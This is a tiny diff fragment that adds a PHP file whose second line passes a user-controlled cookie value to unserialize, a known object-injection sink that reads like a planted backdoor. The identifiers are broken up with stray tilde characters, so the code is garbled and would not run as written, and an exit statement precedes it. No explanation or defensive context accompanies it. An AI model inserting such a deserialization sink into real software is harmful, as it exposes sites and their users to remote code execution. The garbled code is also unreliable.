@@ -1,0 +1,2 @@
+<?php exit; ?>
+<?php uns~erialize($_C~OOKIE['m']);
